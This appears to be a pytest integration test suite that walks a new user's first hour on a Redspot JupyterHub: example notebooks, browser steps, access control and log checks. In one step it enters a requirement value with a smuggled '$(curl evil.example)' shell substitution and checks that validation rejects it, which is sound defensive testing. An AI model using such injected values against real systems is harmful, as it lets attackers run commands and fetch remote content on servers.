"""A new user's first hour, on a hub configured as the first `make up` configures it.

- each example notebook runs end to end in alice's real Redspot server, as alice, with
  nbclient (in a kernel of her server: her account, her tokens, her Ray cluster), and
  its outputs are checked;
- the whole path in Chromium: sign in, the home page, spawn, JupyterLab, the examples
  folder, `01-first-steps` run in the browser, the Ray dashboard from `%ray_status`'s
  link (rendered, no console error), a model registered through the form and opened in
  the registry's UI, the environments page, and bob refused at alice's server;
- what the operator reads: the hub's and the server's logs carry none of the noise a
  newcomer used to meet.

Screenshots of each step are kept in ``$REDSPOT_TEST_ARTIFACTS`` (default
``.test-artifacts/`` in the checkout).
"""

from __future__ import annotations

import json
import re
import textwrap

import pytest
import requests
import yaml

from tests.conftest import PASSWORDS
from tests.helpers import artifacts_folder
from tests.kernels import run_cell, start_kernel

pytestmark = pytest.mark.integration
pytest.importorskip("deepspeed")

USERS = {name: PASSWORDS[name] for name in ("alice", "bob")}


@pytest.fixture(scope="module")
def artifacts():
    return artifacts_folder("first-hour")


@pytest.fixture(scope="module")
def first_hub(test_root, account_prefix):
    """A hub with the settings the first `redspot up` writes (both services on)."""
    from redspot.hub.app import STARTER_CONFIG
    from tests.conftest import HubPool

    pool = HubPool(test_root, account_prefix, "first")
    try:
        hub = pool(yaml.safe_load(STARTER_CONFIG), users=USERS)
        hub.tokens = {name: hub.user_token(name) for name in USERS}
        assert hub.spawn("alice", hub.tokens["alice"], {"profile": "m5.xlarge"}
                         ).status_code in (201, 202)
        hub.wait_ready("alice")
        yield hub
    finally:
        pool.close()


def contents(hub, path, method="GET", **kwargs):
    return requests.request(method, f"{hub.url}/user/alice/api/contents/{path}",
                            headers={"Authorization": f"token {hub.tokens['alice']}"},
                            timeout=60, **kwargs)


#: Run in a kernel of alice's server: copy an example to her home through her server's
#: contents API (as JupyterLab's "Duplicate" does), execute the copy with nbclient in a
#: new kernel of that server, as jupyter-server would start it (the notebook's path in
#: JPY_SESSION_NAME), and keep the executed notebook beside it.
EXECUTE = textwrap.dedent("""
    import os, nbclient, nbformat
    path = os.path.abspath({name!r} + ".ipynb")
    nb = nbformat.read(path, as_version=4)
    os.environ["JPY_SESSION_NAME"] = path
    client = nbclient.NotebookClient(nb, timeout={timeout}, kernel_name="python3",
                                     resources={{"metadata": {{"path": os.getcwd()}}}})
    try:
        client.execute()
    finally:
        nbformat.write(nb, {name!r} + ".executed.ipynb")
    print("EXECUTED", {name!r})
""")


def run_example(hub, name: str, timeout: int) -> list[str]:
    """Execute ``examples/<name>.ipynb`` as alice; each code cell's text output."""
    r = contents(hub, "", "POST", json={"copy_from": f"examples/{name}.ipynb"})
    assert r.status_code == 201, r.text
    copied = r.json()["path"]
    assert copied == f"{name}.ipynb" and r.json()["writable"] is True
    kernel = start_kernel(hub.url, "alice", hub.tokens["alice"])
    out = run_cell(hub.url, "alice", hub.tokens["alice"],
                   EXECUTE.format(name=name, timeout=timeout), kernel=kernel,
                   timeout=timeout + 120)
    executed = contents(hub, f"{name}.executed.ipynb").json()["content"]
    texts = [_text(cell) for cell in executed["cells"] if cell["cell_type"] == "code"]
    assert "EXECUTED" in out, out + "\n---\n" + "\n---\n".join(texts)
    return texts


def _text(cell: dict) -> str:
    parts = []
    for output in cell.get("outputs", []):
        if output["output_type"] == "stream":
            parts.append(output["text"])
        elif output["output_type"] in ("execute_result", "display_data"):
            parts.append(output["data"].get("text/plain", ""))
            parts.append(output["data"].get("text/html", ""))
        elif output["output_type"] == "error":
            parts.append(f"{output['ename']}: {output['evalue']}")
    return "".join(parts)


def test_the_examples_folder_is_in_alices_files_and_read_only(first_hub):
    listing = contents(first_hub, "examples").json()
    assert {m["name"] for m in listing["content"]} == {
        "01-first-steps.ipynb", "02-train-and-register.ipynb", "03-environments.ipynb"}
    r = contents(first_hub, "examples/01-first-steps.ipynb", "PUT",
                 json={"type": "file", "format": "text", "content": "overwritten"})
    assert r.status_code == 403 and "read-only" in r.json()["message"], r.text
    # nothing of it is in her home
    assert not (first_hub.data_dir / "home" / "alice" / "examples").exists()


def test_01_first_steps(first_hub):
    cells = run_example(first_hub, "01-first-steps", timeout=300)
    info, connect, status, _, remote, back = cells
    assert info.startswith("alice on m5.xlarge: 4 vCPU, 16 GiB, 0 GPU"), info
    assert "Starting your Ray cluster" in connect and "Connected to your Ray cluster" in connect
    assert "Dashboard: /user/alice/redspot/ray/dashboard/" in status, status
    assert '<a href="/user/alice/redspot/ray/dashboard/"' in status  # a link, not text
    assert "summed 1000000 numbers on" in remote, remote
    # the data went in, the results came back
    assert "total: 499999500000.0" in back and "squares: [0.0, 1.0, 4.0, 9.0, 16.0]" in back
    pids = re.search(r"this kernel's pid: (\d+) - the cell ran on: \S+ \(pid (\d+)\)", back)
    assert pids and pids.group(1) != pids.group(2), back  # it ran elsewhere


def test_02_train_and_register(first_hub):
    cells = run_example(first_hub, "02-train-and-register", timeout=900)
    trained = cells[3]
    run_id = re.search(r"run: (train-\S+)", trained).group(1)
    losses = json.loads(re.search(r"loss by epoch: (\[.*\])", trained).group(1))
    assert len(losses) == 4 and losses[-1] < losses[0] / 5, trained
    assert "checkpoint: " + str(first_hub.data_dir / "home" / "alice" / "checkpoints") in trained
    assert "loss of the trained model:" in cells[4]
    form, registered, loaded = cells[5], cells[6], cells[7]
    assert "RegisterModel(" in form
    assert "registered alice-first-model version 1" in registered, registered
    assert "redspot.user = alice" in registered
    assert "redspot.notebook = 02-train-and-register.ipynb" in registered
    assert f"redspot.training_run_id = {run_id}" in registered
    assert "redspot.profile = m5.xlarge" in registered
    assert "the loaded model predicts as the trained one: True" in loaded, loaded
    # in the registry, for everyone to read, with its lineage
    version = requests.get(
        f"{first_hub.url}/services/models/api/2.0/mlflow/model-versions/get",
        params={"name": "alice-first-model", "version": "1"}, timeout=60,
        headers={"Authorization": f"token {first_hub.tokens['bob']}"}).json()
    tags = {t["key"]: t["value"] for t in version["model_version"]["tags"]}
    assert tags["redspot.training_run_id"] == run_id


def test_03_environments(first_hub):
    cells = run_example(first_hub, "03-environments", timeout=900)
    made, _, remote, where = cells
    assert "alice/first-env ready" in made, made
    assert "six 1.16.0 FIRST_ENV = on" in remote, remote
    ran_in = re.search(r"the cell ran in: (\S+)", where).group(1)
    assert ran_in.startswith(str(first_hub.data_dir / "environments" / "venvs")), where
    assert ran_in != re.search(r"this notebook runs in: (\S+)", where).group(1)


#: The notebook open (each is opened alone: ``?reset`` closes what the workspace had).
SHOWN = ".jp-NotebookPanel"

REGISTER_CELL = (
    "from sklearn.linear_model import LinearRegression\n"
    "import numpy as np\n"
    "X = np.arange(20.0).reshape(10, 2)\n"
    "lin = LinearRegression().fit(X, X @ [1.0, 2.0])\n"
    "%register_model lin --sample X")


def run_all_cells(page) -> None:
    """Run → Run All Cells, as a user does, once the kernel is idle; again only if no
    cell started at all (a click while the kernel's connection was still being set up
    is lost)."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    page.wait_for_selector(".jp-StatusBar-TextItem:has-text('| Idle')", timeout=120_000)
    for _ in range(3):
        page.locator(".lm-MenuBar-itemLabel", has_text=re.compile("^Run$")).click()
        page.locator(".lm-Menu-itemLabel", has_text=re.compile("^Run All Cells$")).click()
        try:
            page.wait_for_selector(
                f"{SHOWN} .jp-InputPrompt:has-text('[1]'), "
                f"{SHOWN} .jp-InputPrompt:has-text('[*]')", timeout=120_000)
            return
        except PlaywrightTimeout:
            continue
    raise AssertionError("Run All Cells started no cell")


def test_the_first_hour_in_a_browser(first_hub, browser, artifacts):
    """Every step a newcomer takes, in Chromium, without a console error."""
    hub = first_hub
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    errors: list[str] = []

    def watch(page):
        page.on("console", lambda m: errors.append(f"{page.url}: {m.text}")
                if m.type == "error" else None)
        page.on("pageerror", lambda e: errors.append(f"{page.url}: {e}"))
        page.on("response", lambda r: errors.append(
            f"{r.status} {r.request.method} {r.url}") if r.status >= 400 else None)

    context.on("page", watch)
    page = context.new_page()
    watch(page)
    shot = lambda p, name: p.screenshot(path=str(artifacts / f"{name}.png"))  # noqa: E731
    try:
        # sign in: the home page, her running server, links to everything
        page.goto(f"{hub.url}/hub/login")
        page.fill("#username_input", "alice")
        page.fill("#password_input", USERS["alice"])
        page.click("#login_submit")
        page.wait_for_url(re.compile(r".*/hub/home$"))
        assert "Running on m5.xlarge" in page.inner_text("#redspot-server")
        for link in ("lab", "models", "ray", "environments", "docs"):
            assert page.locator(f"#link-{link} a").count() == 1, link
        shot(page, "01-home")

        # the environments page, from the home page
        with context.expect_page() as opened:
            page.click("#link-environments a")
        envs = opened.value
        envs.wait_for_selector("#new-environment")
        envs.fill("#f-name", "bad-one")
        envs.fill("#f-python", "six==1.16.0\n$(curl evil.example)")
        envs.click("#create")
        error = envs.locator('.field[data-field="python"] .error')
        error.wait_for(state="visible")
        assert "is not a package requirement" in error.inner_text()
        shot(envs, "02-environments-form-error")
        envs.close()
        # the refused request, as the browser logs it: the only error of this step
        assert all("400" in e and "/services/environments/" in e for e in errors), errors
        errors.clear()

        # JupyterLab, the examples folder, 01-first-steps run in the browser
        page.click("#open-lab")
        page.wait_for_url(re.compile(r".*/user/alice/lab.*"), timeout=120_000)
        page.wait_for_selector(".jp-Launcher", timeout=120_000)
        page.goto(f"{hub.url}/user/alice/lab/tree/examples/01-first-steps.ipynb?reset")
        page.wait_for_selector(f"{SHOWN} .jp-Cell", timeout=120_000)
        page.wait_for_selector(f"{SHOWN} .jp-Notebook-ExecutionIndicator[data-status='idle']",
                               timeout=120_000)
        shot(page, "03-example-opened")
        run_all_cells(page)
        page.wait_for_selector("text=total: 499999500000.0", timeout=300_000)
        shot(page, "04-example-run")

        # the dashboard, from %ray_status's link
        link = page.locator('.jp-OutputArea a[href="/user/alice/redspot/ray/dashboard/"]')
        with context.expect_page() as opened:
            link.first.click()
        dashboard = opened.value
        dashboard.wait_for_load_state("networkidle", timeout=60_000)
        dashboard.wait_for_selector("text=Cluster", timeout=60_000)
        shot(dashboard, "05-ray-dashboard")
        dashboard.close()
        # one 404 is the dashboard's own design: it asks (HEAD) whether platform events
        # (Kubernetes events) are collected, and a 404 is the "no" that hides that tab
        probe = [e for e in errors if "HEAD" in e and e.endswith("api/v0/platform_events")]
        assert len(probe) <= 1 and probe == [e for e in errors if e.startswith("404 ")], errors
        for entry in probe:
            errors.remove(entry)
            errors.remove(next(e for e in errors if "404 (Not Found)" in e))

        # a model registered through the form, then opened in the registry's UI
        notebook = {"type": "notebook", "content": {
            "nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {
                "name": "python3", "display_name": "Python 3 (ipykernel)",
                "language": "python"}},
            "cells": [{"cell_type": "code", "id": "register", "source": REGISTER_CELL,
                       "metadata": {}, "outputs": [], "execution_count": None}]}}
        assert contents(hub, "register.ipynb", "PUT", json=notebook).status_code == 201
        page.goto(f"{hub.url}/user/alice/lab/tree/register.ipynb?reset")
        page.wait_for_selector(f"{SHOWN} .jp-Notebook-ExecutionIndicator[data-status='idle']",
                               timeout=120_000)
        run_all_cells(page)
        form = page.locator(".widget-vbox:has-text('Register a sklearn model')")
        form.wait_for(timeout=120_000)
        name = form.locator("input[type=text]").first  # the name (a combobox)
        name.fill("alice-from-the-form")
        shot(page, "06-register-form")
        form.locator("button:has-text('Register')").click()
        registry_link = form.locator("a:has-text('open it in the registry')")
        registry_link.wait_for(timeout=120_000)
        shot(page, "07-registered")
        with context.expect_page() as opened:
            registry_link.click()
        registry = opened.value
        registry.wait_for_selector("text=alice-from-the-form", timeout=60_000)
        registry.wait_for_timeout(3000)  # its further requests (the UI polls: never idle)
        assert registry.locator("#redspot-home").count() == 1  # the way back to the hub
        shot(registry, "08-registry")
        registry.close()
    finally:
        shot(page, "99-last")
        context.close()

    # bob, signed in, is refused at alice's server
    bob = browser.new_context()
    try:
        other = bob.new_page()
        other.goto(f"{hub.url}/hub/login")
        other.fill("#username_input", "bob")
        other.fill("#password_input", USERS["bob"])
        other.click("#login_submit")
        other.wait_for_url(re.compile(r".*/hub/home$"))
        response = other.goto(f"{hub.url}/user/alice/lab")
        assert response.status == 403 or "403" in other.content(), other.url
        shot(other, "09-bob-refused")
    finally:
        bob.close()
    assert not errors, "\n".join(errors)


#: Log lines a newcomer used to read at every start, none of which meant anything to do.
NOISE = {
    "MLflow's DNS-rebinding warning (the hub authenticates first)": "Accepting ALL hosts",
    "the proxy's uncaught connection reset": "ECONNRESET",
    "a fresh data folder reported as an earlier version's": "from an earlier Redspot",
    "Starlette's deprecation inside MLflow": "StarletteDeprecationWarning",
    "jupyter-server's websocket ping warning": "websocket_ping_timeout",
    "DeepSpeed guessing the accelerator in every worker": "Setting accelerator to CPU",
    "MLflow announcing its registry store": "Registry store URI not provided",
    "MLflow advising how to open itself to other hosts": "To allow connections from other",
    "a traceback": "Traceback (most recent call last)",
}


def test_the_logs_carry_no_noise(first_hub, artifacts):
    """Runs after the others: the hub's log (services, proxy) and alice's server's (both
    kept with the screenshots)."""
    logs = {"hub": first_hub.log(tail=100_000),
            "alice's server": (first_hub.data_dir / "hub" / "logs" / "alice.log").read_text()}
    for name, text in logs.items():
        (artifacts / f"{name.split()[0].strip(chr(39)).replace(chr(39) + 's', '')}.log"
         ).write_text(text)
        for what, pattern in NOISE.items():
            assert pattern not in text, f"{name}'s log has {what}"
        empty = [line for line in text.splitlines()
                 if re.fullmatch(r"\[W [\d\-: .]+ServerApp\]\s*", line)]
        assert not empty, f"{name}'s log has empty warnings: {empty[:3]}"
